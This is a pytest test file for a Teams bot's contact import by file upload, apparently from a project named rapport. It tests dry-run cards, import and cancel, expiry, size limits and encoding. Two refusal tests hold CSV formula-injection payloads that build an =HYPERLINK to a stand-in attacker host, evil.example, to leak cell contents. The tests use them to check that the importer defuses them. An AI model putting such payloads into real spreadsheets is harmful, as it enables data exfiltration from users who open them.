"""Teams contact import by file upload: Activity JSON with a file attachment into the running app.

Teams delivers a file sent in the personal chat as an attachment of type
``application/vnd.microsoft.teams.file.download.info`` whose ``downloadUrl`` is pre-authenticated;
here that URL is ``https://files.contoso.sharepoint.com:<port>/...``, served over TLS by a small
local aiohttp file server that the download's resolver finds on 127.0.0.1 (the test seams of
``FileHostPolicy``: a static DNS table, a test CA, private addresses allowed), and botbuilder
sends the bot's cards and card updates to the BotConnectorFake.
"""

from __future__ import annotations

import functools
from collections.abc import AsyncIterator
from dataclasses import dataclass, field
from typing import Any

import pytest
from aiohttp import web
from aiohttp.test_utils import TestClient, TestServer
from sqlalchemy import select
from sqlalchemy.ext.asyncio import AsyncEngine

from rapport.bot.core.context import Actor
from rapport.bot.core.importer import MAX_BYTES
from rapport.bot.core.rapport import Rapport
from rapport.bot.platforms.teams import cards
from rapport.bot.platforms.teams.app import install_teams
from rapport.bot.platforms.teams.downloads import FileHostPolicy, download
from rapport.bot.platforms.teams.imports import (
    CANCELLED,
    DOWNLOAD_FAILED,
    EXPIRED,
    FILE_DOWNLOAD_INFO,
    HOW_TO_IMPORT,
    NOT_IMPORTABLE,
    NOT_YOURS,
    TOO_LARGE,
    PendingFiles,
    TooLarge,
)
from rapport.bot.service.config import Settings
from rapport.bot.service.runtime import Runtime
from rapport.bot.service.server import build_web_app
from rapport.storage import db
from rapport.storage.models import Contact, Note, PendingFile
from tests.conftest import Clock, snapshot
from tests.fakes.bot_connector import BotConnectorFake, ReceivedActivity
from tests.fakes.dns import StaticResolver
from tests.fakes.teams_activities import (
    ConversationType,
    default_conversation_id,
    teams_card_action_invoke,
    teams_message_activity,
    teams_message_back,
)
from tests.fakes.tls import local_tls

PERSONAL = default_conversation_id("personal")
FOX = {"user_id": "29:fox-mulder", "user_name": "Fox Mulder", "aad_object_id": "aad-fox"}
FOX_PERSONAL = default_conversation_id("personal", user_id="29:fox-mulder")

FILE_HOST = "files.contoso.sharepoint.com"
CONTACTS_CSV = (b"name,kind,company,email,cadence,notes\n"
                b"Walter Skinner,colleague,FBI,walter@fbi.example,2 weeks,Likes baseball\n"
                b"Monica Reyes,client,,monica@example.com,1 month,\n")


@dataclass
class FileServer:
    """Stands in for the SharePoint download link: serves named files, records every GET."""

    files: dict[str, bytes] = field(default_factory=dict)
    requests: list[str] = field(default_factory=list)
    base_url: str = ""
    # How the download reaches this server: its name in a DNS table, its CA, 127.0.0.1.
    policy: FileHostPolicy = field(default_factory=FileHostPolicy)

    # name -> the Location a GET of it is redirected to (302).
    redirects: dict[str, str] = field(default_factory=dict)
    port: int = 0

    async def serve(self, request: web.Request) -> web.StreamResponse:
        name = request.match_info["name"]
        self.requests.append(name)
        if name in self.redirects:
            return web.Response(status=302, headers={"Location": self.redirects[name]})
        if name not in self.files:
            return web.Response(status=404, text="not found")
        data = self.files[name]
        if request.query.get("chunked"):
            # No Content-Length: the client must count what it reads.
            response = web.StreamResponse()
            response.enable_chunked_encoding()
            await response.prepare(request)
            for start in range(0, len(data), 64 * 1024):
                await response.write(data[start:start + 64 * 1024])
            await response.write_eof()
            return response
        return web.Response(body=data, content_type="application/octet-stream")

    def url(self, name: str, **query: str) -> str:
        suffix = "".join(f"&{k}={v}" for k, v in query.items())
        return f"{self.base_url}/files/{name}?tempauth=abc{suffix}"


@dataclass
class Harness:
    runtime: Runtime
    client: TestClient[Any, Any]
    connector: BotConnectorFake
    engine: AsyncEngine
    clock: Clock
    files: FileServer

    async def post(self, activity: dict[str, Any]) -> tuple[int, Any]:
        response = await self.client.post("/api/messages", json=activity)
        body = await response.json() if response.content_type == "application/json" else None
        return response.status, body

    async def upload(self, name: str, data: bytes | None = None, *, file_type: str | None = None,
                     conversation_type: ConversationType = "personal", chunked: bool = False,
                     **kwargs: Any) -> int:
        """The user sends `name` (served with `data`) to the bot, as Teams delivers it."""
        if data is not None:
            self.files.files[name] = data
        url = self.files.url(name, chunked="1") if chunked else self.files.url(name)
        activity = file_message(name, url, service_url=self.connector.service_url,
                                file_type=file_type, conversation_type=conversation_type,
                                **kwargs)
        status, _ = await self.post(activity)
        return status

    async def say(self, text: str) -> int:
        status, _ = await self.post(teams_message_activity(text,
                                                          service_url=self.connector.service_url))
        return status

    async def click(self, action: dict[str, Any], *, reply_to_id: str,
                    **kwargs: Any) -> tuple[int, Any]:
        return await self.post(teams_card_action_invoke(
            action["data"], verb=action["verb"], service_url=self.connector.service_url,
            reply_to_id=reply_to_id, **kwargs))

    async def contacts(self) -> list[Contact]:
        async with self.runtime.sessions() as session:
            return list((await session.scalars(select(Contact).order_by(Contact.id))).all())


def file_message(name: str, download_url: str, *, service_url: str, file_type: str | None = None,
                 conversation_type: ConversationType = "personal", **kwargs: Any
                 ) -> dict[str, Any]:
    """A message carrying one file, shaped like Teams' (Microsoft's "bots-filesv4" page)."""
    activity = teams_message_activity("", service_url=service_url,
                                      conversation_type=conversation_type, **kwargs)
    kind = file_type if file_type is not None else name.rsplit(".", 1)[-1]
    activity["attachments"] = [
        {"contentType": FILE_DOWNLOAD_INFO,
         "contentUrl": f"https://contoso.sharepoint.com/personal/dana/Documents/{name}",
         "name": name,
         "content": {"downloadUrl": download_url, "uniqueId": "1150D938-8870-4044-9F2C",
                     "fileType": kind, "etag": "123"}},
        {"contentType": "text/html", "content": "<div></div>"},
    ]
    return activity


@pytest.fixture
async def files() -> AsyncIterator[FileServer]:
    server = FileServer()
    app = web.Application()
    app.router.add_get("/files/{name}", server.serve)
    tls = local_tls(FILE_HOST)
    runner = web.AppRunner(app, access_log=None)
    await runner.setup()
    await web.TCPSite(runner, "127.0.0.1", 0, ssl_context=tls.server).start()
    server.port = int(runner.addresses[0][1])
    server.base_url = f"https://{FILE_HOST}:{server.port}"
    server.policy = FileHostPolicy(
        allow_private_for_tests=True, ssl_context=tls.client,
        resolver=lambda: StaticResolver({FILE_HOST: "127.0.0.1"}))
    try:
        yield server
    finally:
        await runner.cleanup()


@pytest.fixture(name="h")
async def harness(engine: AsyncEngine, clock: Clock, bot_connector: BotConnectorFake,
                  files: FileServer) -> AsyncIterator[Harness]:
    settings = Settings(database_url="sqlite+aiosqlite://", host="127.0.0.1", teams_enabled=True)
    sessions = db.session_factory(engine)
    runtime = Runtime(settings=settings, engine=engine, sessions=sessions,
                      rapport=Rapport(sessions=sessions, clock=clock), clock=clock)
    # The Teams installer as production wires it, except for how files are reached.
    app = await build_web_app(runtime, installers=[
        functools.partial(install_teams, file_policy=files.policy)])
    async with TestClient(TestServer(app)) as client:
        yield Harness(runtime=runtime, client=client, connector=bot_connector, engine=engine,
                      clock=clock, files=files)


def _card(activity: ReceivedActivity) -> dict[str, Any]:
    [attachment] = activity.body["attachments"]
    assert attachment["contentType"] == cards.CARD_CONTENT_TYPE
    content: dict[str, Any] = attachment["content"]
    return content


def _buttons(card: dict[str, Any]) -> dict[str, dict[str, Any]]:
    return {a["title"]: a for a in card.get("actions", [])}


def _texts(card: dict[str, Any]) -> str:
    return "\n".join(block.get("text", "") for block in card["body"])


async def _preview(h: Harness, name: str = "contacts.csv",
                   data: bytes = CONTACTS_CSV) -> ReceivedActivity:
    """Dana sends a file; returns the dry run card message."""
    h.connector.reset()
    assert await h.upload(name, data) == 201
    [message] = h.connector.sent_to(PERSONAL)
    return message


# -- the happy path -------------------------------------------------------------------------------


async def test_upload_answers_with_a_dry_run_card_and_changes_no_contact(h: Harness) -> None:
    assert await h.say("help") == 201
    before = await snapshot(h.engine)

    message = await _preview(h)

    card = _card(message)
    assert all(float(v) <= 1.5 for v in cards.card_versions(card))
    assert "Import from contacts.csv" in _texts(card)
    assert "Would add 2 people" in _texts(card) and "dry run" in _texts(card)
    buttons = _buttons(card)
    assert set(buttons) == {"Import", "Cancel"}
    assert {b["type"] for b in buttons.values()} == {"Action.Execute"}
    assert buttons["Import"]["verb"] == cards.IMPORT_CONFIRM
    assert buttons["Cancel"]["verb"] == cards.IMPORT_CANCEL
    token = buttons["Import"]["data"]["token"]
    assert len(token) >= 20 and buttons["Cancel"]["data"]["token"] == token
    assert h.files.requests == ["contacts.csv"]
    assert await data_unchanged(h, before)


async def test_import_creates_the_contacts_and_updates_the_card_in_place(h: Harness) -> None:
    message = await _preview(h)
    import_button = _buttons(_card(message))["Import"]

    status, body = await h.click(import_button, reply_to_id=message.activity_id)

    assert status == 200 and body["type"] == cards.CARD_CONTENT_TYPE
    assert "Added 2 people" in _texts(body["value"])
    contacts = await h.contacts()
    assert [(c.name, c.kind, c.cadence_days) for c in contacts] == [
        ("Walter Skinner", "colleague", 14), ("Monica Reyes", "client", 30)]
    [update] = h.connector.updates()
    assert update.http_method == "PUT" and update.activity_id == message.activity_id
    updated = _card(update)
    assert "Added 2 people" in _texts(updated) and _buttons(updated) == {}
    # The bytes are gone: a second click imports nothing more.
    status, body = await h.click(import_button, reply_to_id=message.activity_id)
    assert body["value"] == EXPIRED
    assert len(await h.contacts()) == 2


async def test_the_same_file_again_merges_instead_of_duplicating(h: Harness) -> None:
    first = await _preview(h)
    await h.click(_buttons(_card(first))["Import"], reply_to_id=first.activity_id)
    after_first = await snapshot(h.engine)

    again = await _preview(h)
    assert "Would add 0 people" in _texts(_card(again))
    assert "would leave 2 unchanged" in _texts(_card(again))
    status, body = await h.click(_buttons(_card(again))["Import"], reply_to_id=again.activity_id)

    assert status == 200 and "Added 0 people" in _texts(body["value"])
    assert [c.name for c in await h.contacts()] == ["Walter Skinner", "Monica Reyes"]
    async with h.runtime.sessions() as session:
        assert len((await session.scalars(select(Note))).all()) == 1
    assert await data_unchanged(h, after_first)


async def test_vcard_upload_imports_too(h: Harness) -> None:
    vcard = (b"BEGIN:VCARD\r\nVERSION:3.0\r\nFN:John Doggett\r\nORG:FBI\r\n"
             b"EMAIL:john@fbi.example\r\nEND:VCARD\r\n")
    message = await _preview(h, "phone.vcf", vcard)
    assert "Would add 1 person" in _texts(_card(message))

    await h.click(_buttons(_card(message))["Import"], reply_to_id=message.activity_id)

    [contact] = await h.contacts()
    assert (contact.name, contact.company) == ("John Doggett", "FBI")


async def test_action_submit_fallback_imports_as_well(h: Harness) -> None:
    message = await _preview(h)
    fallback = _buttons(_card(message))["Import"]["fallback"]

    status, _ = await h.post(teams_message_back(fallback["data"],
                                                service_url=h.connector.service_url,
                                                reply_to_id=message.activity_id))

    assert status == 201
    assert len(await h.contacts()) == 2
    [update] = h.connector.updates()
    assert "Added 2 people" in _texts(_card(update))


async def test_cancel_drops_the_file_and_updates_the_card(h: Harness) -> None:
    message = await _preview(h)
    buttons = _buttons(_card(message))

    status, body = await h.click(buttons["Cancel"], reply_to_id=message.activity_id)

    assert status == 200 and CANCELLED in _texts(body["value"])
    [update] = h.connector.updates()
    assert "Import cancelled" in _texts(_card(update)) and _buttons(_card(update)) == {}
    status, body = await h.click(buttons["Import"], reply_to_id=message.activity_id)
    assert body["value"] == EXPIRED
    assert await h.contacts() == []


async def test_the_waiting_file_expires(h: Harness) -> None:
    message = await _preview(h)
    h.clock.advance(minutes=16)

    status, body = await h.click(_buttons(_card(message))["Import"],
                                 reply_to_id=message.activity_id)

    assert status == 200 and body["value"] == EXPIRED
    assert h.connector.updates() == [] and await h.contacts() == []


# -- refusals -------------------------------------------------------------------------------------


async def test_hostile_csv_gets_row_errors_and_no_import_button(h: Harness) -> None:
    hostile = (b'name,kind,cadence\n'
               b'"=HYPERLINK(""http://evil.example/?x=""&A1,""Dana"")",colleague,2 weeks\n'
               b'Walter Skinner,boss,2 weeks\n'
               b'Monica Reyes,client,soon\n')
    assert await h.say("help") == 201
    before = await snapshot(h.engine)

    card = _card(await _preview(h, "contacts.csv", hostile))

    text = _texts(card)
    assert "Nothing was imported" in text
    assert "row 3: kind 'boss' is not colleague or client" in text
    assert "row 4: cadence 'soon'" in text
    assert "removed leading formula characters" in text
    assert _buttons(card) == {}
    assert await data_unchanged(h, before)


async def test_a_formula_cell_is_defused_on_import(h: Harness) -> None:
    message = await _preview(h, "contacts.csv",
                             b'name,notes\nDana Scully,"=HYPERLINK(""http://evil.example"")"\n')
    assert "removed leading formula characters from notes" in _texts(_card(message))

    await h.click(_buttons(_card(message))["Import"], reply_to_id=message.activity_id)

    async with h.runtime.sessions() as session:
        [note] = (await session.scalars(select(Note))).all()
    assert not note.text.startswith("=") and note.text.startswith("HYPERLINK")


async def test_wrong_encoding_is_refused_with_a_clear_error(h: Harness) -> None:
    # UTF-16 without its byte-order mark cannot be told from binary by its bytes alone.
    utf16 = "name,company\nRenée Dupont,Café\n".encode("utf-16-le")
    assert await h.say("help") == 201
    before = await snapshot(h.engine)

    card = _card(await _preview(h, "contacts.csv", utf16))

    assert "UTF-16" in _texts(card) and "CSV UTF-8" in _texts(card) and _buttons(card) == {}
    assert await data_unchanged(h, before)


async def test_utf16_with_its_mark_is_read(h: Harness) -> None:
    utf16 = "name,company\nRenée Dupont,Café\n".encode("utf-16")

    card = _card(await _preview(h, "contacts.csv", utf16))

    assert "Would add 1 person" in _texts(card) and "Import" in _buttons(card)


async def data_unchanged(h: Harness, before: dict[str, Any]) -> bool:
    """Every table as before, except the chat reference a personal message refreshes and the
    file waiting for Import or Cancel."""
    after = await snapshot(h.engine)
    assert after.keys() == before.keys()
    return all(after[t] == before[t] for t in after
               if t not in ("conversation_refs", "pending_files"))


async def test_another_users_click_is_refused_and_changes_nothing(h: Harness) -> None:
    message = await _preview(h)
    import_button = _buttons(_card(message))["Import"]
    h.connector.reset()
    before = await snapshot(h.engine)

    status, body = await h.click(import_button, reply_to_id=message.activity_id, **FOX)
    await h.post(teams_message_back(import_button["data"], service_url=h.connector.service_url,
                                    reply_to_id=message.activity_id, **FOX))

    assert status == 200 and body["value"] == NOT_YOURS
    assert h.connector.updates() == []
    [refusal] = h.connector.sent_to(FOX_PERSONAL)
    assert refusal.text == NOT_YOURS
    assert await snapshot(h.engine) == before
    # The uploader can still import it.
    status, body = await h.click(import_button, reply_to_id=message.activity_id)
    assert "Added 2 people" in _texts(body["value"])


async def test_a_file_in_a_channel_or_group_chat_is_ignored(h: Harness) -> None:
    before = await snapshot(h.engine)

    kinds: tuple[ConversationType, ...] = ("channel", "groupChat")
    for kind in kinds:
        assert await h.upload("contacts.csv", CONTACTS_CSV, conversation_type=kind) == 201

    assert h.files.requests == []
    assert h.connector.requests == []
    assert await snapshot(h.engine) == before


@pytest.mark.parametrize("chunked", [False, True], ids=["content-length", "chunked"])
async def test_a_too_large_file_is_refused(h: Harness, chunked: bool) -> None:
    big = b"name\n" + b"Dana Scully\n" * (MAX_BYTES // 12 + 10)
    assert len(big) > MAX_BYTES
    h.connector.reset()

    assert await h.upload("big.csv", big, chunked=chunked) == 201

    [answer] = h.connector.sent_to(PERSONAL)
    assert answer.text == TOO_LARGE
    assert await h.contacts() == []


async def test_other_file_types_are_not_downloaded(h: Harness) -> None:
    h.connector.reset()

    assert await h.upload("holiday.pdf", b"%PDF-1.7") == 201

    [answer] = h.connector.sent_to(PERSONAL)
    assert answer.text == NOT_IMPORTABLE
    assert h.files.requests == []


async def test_typed_import_explains_how_to_attach_the_file(h: Harness) -> None:
    h.connector.reset()

    assert await h.say("import contacts.csv") == 201

    [answer] = h.connector.sent_to(PERSONAL)
    assert answer.text == HOW_TO_IMPORT and "attach a CSV" in HOW_TO_IMPORT
    assert h.files.requests == []


async def test_a_failed_download_says_so(h: Harness) -> None:
    h.connector.reset()

    assert await h.upload("gone.csv") == 201  # the file server answers 404

    [answer] = h.connector.sent_to(PERSONAL)
    assert answer.text == DOWNLOAD_FAILED
    assert h.files.requests == ["gone.csv"]


# -- units ----------------------------------------------------------------------------------------


async def test_download_stops_past_the_limit_without_content_length(files: FileServer) -> None:
    files.files["big.csv"] = b"x" * 300_000
    files.files["small.csv"] = b"x" * 1_000

    with pytest.raises(TooLarge):
        await download(files.url("big.csv", chunked="1"), 100_000, policy=files.policy)
    with pytest.raises(TooLarge):  # refused by its Content-Length
        await download(files.url("big.csv"), 100_000, policy=files.policy)
    assert await download(files.url("small.csv", chunked="1"), 1_000,
                          policy=files.policy) == b"x" * 1_000


async def test_pending_imports_keep_a_few_per_user_and_expire(engine: AsyncEngine,
                                                              clock: Clock) -> None:
    rapport = Rapport(sessions=db.session_factory(engine), clock=clock)
    pending = PendingFiles(rapport.db, clock, kind="import", per_user=2)
    dana = await rapport.user_context(Actor(platform="teams", workspace_external_id="t",
                                            user_external_id="dana", display_name="Dana"))
    fox = await rapport.user_context(Actor(platform="teams", workspace_external_id="t",
                                           user_external_id="fox", display_name="Fox"))

    first = await pending.put(dana, "a.csv", b"a")
    second = await pending.put(dana, "b.csv", b"b")
    third = await pending.put(dana, "c.csv", b"c")
    assert await pending.find(first) is None  # the oldest made room
    assert await pending.find(second) is not None and await pending.find(third) is not None
    foxes = [await pending.put(fox, f"{n}.csv", b"f") for n in range(2)]
    found = await pending.find(foxes[1])
    assert found is not None and found.owner == ("teams", "t", "fox")
    clock.advance(minutes=16)
    assert await pending.find(third) is None
    await pending.put(fox, "later.csv", b"l")  # expired rows go while a new one is kept
    async with rapport.sessions() as session:
        assert (await session.scalars(select(PendingFile.filename))).all() == ["later.csv"]
